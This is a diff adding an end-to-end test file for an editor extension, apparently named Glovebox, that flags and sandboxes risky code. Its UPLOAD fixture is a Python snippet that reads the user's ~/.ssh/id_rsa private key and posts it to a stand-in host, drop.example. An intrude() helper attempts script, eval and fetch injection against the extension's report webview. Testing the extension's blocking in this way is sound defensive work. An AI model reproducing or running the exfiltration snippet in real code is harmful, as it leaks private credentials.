@@ -1,0 +1,138 @@
+/** The extension in the workbench that people have, over a browser: what is told, what runs, and what does not. */
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { join } from 'node:path';
+import type { Frame, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { command, NO_WORKBENCH, openWorkbench, paste, type Workbench } from './workbench.fixture.ts';
+
+if (NO_WORKBENCH !== undefined) console.log(`skipped: ${NO_WORKBENCH}`);
+
+const IMAGES = join(import.meta.dirname, '../../images');
+const UPLOAD = `import pathlib
+import requests
+
+def settings():
+    return {"retries": 3}
+
+key = pathlib.Path.home().joinpath(".ssh/id_rsa").read_text()
+requests.post("https://drop.example/k", data=key, timeout=5)
+`;
+const FIXED = 'def settings():\n    return {"retries": 3}\n\nprint(settings())\n';
+const SETTINGS = { 'glovebox.run': 'never', 'security.workspace.trust.enabled': false };
+const LEAVES = 'open("/tmp/left.txt", "w").write("x")\n';
+
+const status = (page: Page) => page.locator('.statusbar-item[id*="glovebox"]');
+const rows = (page: Page) => page.locator('.pane-body .monaco-list-row');
+const squiggles = (page: Page) => page.locator('.monaco-editor .squiggly-error');
+
+let workbench: Workbench;
+let page: Page;
+beforeAll(async () => {
+  if (NO_WORKBENCH !== undefined) return;
+  workbench = await openWorkbench({ ...SETTINGS, 'workbench.colorTheme': 'Dark Modern' });
+  const folder = join(workbench.base, 'project');
+  mkdirSync(folder);
+  writeFileSync(join(folder, 'sync.py'), FIXED);
+  page = await workbench.open(folder, 'sync.py');
+}, 700_000);
+afterAll(() => workbench?.close());
+
+describe.skipIf(NO_WORKBENCH !== undefined)('in the workbench', () => {
+  it('a pasted upload is underlined, in the status bar and in the list, and nothing interrupts', async () => {
+    await page.locator('.activitybar a[aria-label^="Glovebox"]').click();
+    await paste(page, UPLOAD);
+    await status(page).filter({ hasText: /block 100 \(read\)/ }).waitFor();
+    await squiggles(page).first().waitFor();
+    await rows(page).filter({ hasText: 'secret-sent, line 8' }).waitFor();
+    expect(await page.locator('.notification-toast').count()).toBe(0);
+    await rows(page).filter({ hasText: 'secret-sent, line 8' }).click();
+    await status(page).page().locator('[id="status.editor.selection"]', { hasText: 'Ln 8' }).waitFor();
+    await page.screenshot({ path: join(IMAGES, 'editor-dark.png') });
+  });
+
+  it('once it is corrected all of that is gone', async () => {
+    await paste(page, FIXED);
+    await status(page).filter({ hasText: /allow 0 \(read\)/ }).waitFor();
+    await expect.poll(() => squiggles(page).count()).toBe(0);
+    expect(await rows(page).count()).toBe(0);
+    expect(workbench.runs()).toBe(0);
+  });
+
+  it('a run in the sandbox is told with what it did, and its block interrupts once', async () => {
+    await paste(page, UPLOAD);
+    await status(page).filter({ hasText: 'block 100 (read)' }).waitFor();
+    await command(page, 'Glovebox: Run in Sandbox');
+    await status(page).filter({ hasText: /block 100$/ }).waitFor();
+    await rows(page).filter({ hasText: 'id_rsa' }).first().waitFor();
+    expect(workbench.runs()).toBeGreaterThan(0);
+    const toast = page.locator('.notification-toast');
+    await toast.filter({ hasText: 'Glovebox blocks sync.py' }).waitFor();
+    expect(await toast.count()).toBe(1);
+  });
+
+  it('the report opens beside it, and in its page nothing but its own script runs', async () => {
+    await page.locator('.notification-toast .monaco-button', { hasText: 'Open Report' }).click();
+    const report = await reportOf(page);
+    await report.locator('.decision', { hasText: 'Block' }).waitFor();
+    expect(await report.locator('section > h2').allTextContents()).toContainEqual(expect.stringMatching(/^Findings/));
+    expect(await report.locator('.finding').count()).toBeGreaterThan(0);
+    expect(await intrude(report)).toEqual({ inline: false, evaluated: false, fetched: false, style: false });
+    await page.screenshot({ path: join(IMAGES, 'report-dark.png') });
+  });
+
+  it('in a light theme everything is light', async () => {
+    workbench.set({ ...SETTINGS, 'workbench.colorTheme': 'Light Modern' });
+    await page.locator('.monaco-workbench.vs').waitFor();
+    const report = await reportOf(page);
+    await expect.poll(() => brightness(report)).toBeGreaterThan(200);
+    await page.screenshot({ path: join(IMAGES, 'report-light.png') });
+    await page.keyboard.press('Control+F4');
+  });
+});
+
+describe.skipIf(NO_WORKBENCH !== undefined)('in a workspace that is not trusted', () => {
+  it.todo('nothing runs');
+});
+
+/** The page inside of the two frames that a webview is. */
+async function reportOf(page: Page): Promise<Frame> {
+  const outer = await page.locator('iframe.webview').elementHandle();
+  const inner = await (await outer?.contentFrame())?.waitForSelector('#active-frame');
+  const frame = await inner?.contentFrame();
+  if (frame == null) throw new Error('no report');
+  return frame;
+}
+
+/** Tries what a page must not do: a script and a style of its own, a text as code, a request. */
+function intrude(report: Frame) {
+  return report.evaluate(`(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.intruded = true';
+    document.body.append(script);
+    const style = document.createElement('style');
+    style.textContent = 'body { outline: 7px solid red }';
+    document.body.append(style);
+    const frame = document.createElement('img');
+    const evaluated = await new Promise((resolve) => {
+      try { resolve(new Function('return true')()) } catch { resolve(false) }
+    });
+    const fetched = await fetch(location.origin).then(() => true, () => false);
+    const result = {
+      inline: window.intruded === true,
+      evaluated,
+      fetched,
+      style: getComputedStyle(document.body).outlineWidth === '7px',
+    };
+    script.remove();
+    style.remove();
+    return result;
+  })()`);
+}
+
+/** Of the ground, from 0 to 255. */
+async function brightness(report: Frame): Promise<number> {
+  const color = await report.evaluate<string>('getComputedStyle(document.body).backgroundColor');
+  const [red = 0, green = 0, blue = 0] = (/\d+(, \d+)*/.exec(color)?.[0] ?? '').split(', ').map(Number);
+  return (red + green + blue) / 3;
+}
